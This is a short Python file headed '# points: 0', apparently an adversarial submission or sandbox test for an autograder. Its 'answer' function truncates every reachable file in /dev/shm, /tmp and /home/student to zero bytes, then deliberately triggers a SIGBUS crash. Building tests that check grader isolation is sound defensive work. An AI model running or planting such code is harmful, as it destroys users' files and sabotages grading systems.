# points: 0
import contextlib
import os
import pathlib
from multiprocessing import shared_memory


def answer(request):
    memory = shared_memory.SharedMemory(create=True, size=1 << 20)
    for folder in ("/dev/shm", "/tmp", "/home/student"):
        for path in pathlib.Path(folder).iterdir():
            with contextlib.suppress(OSError):
                os.truncate(path, 0)
    return memory.buf[:1]  # SIGBUS
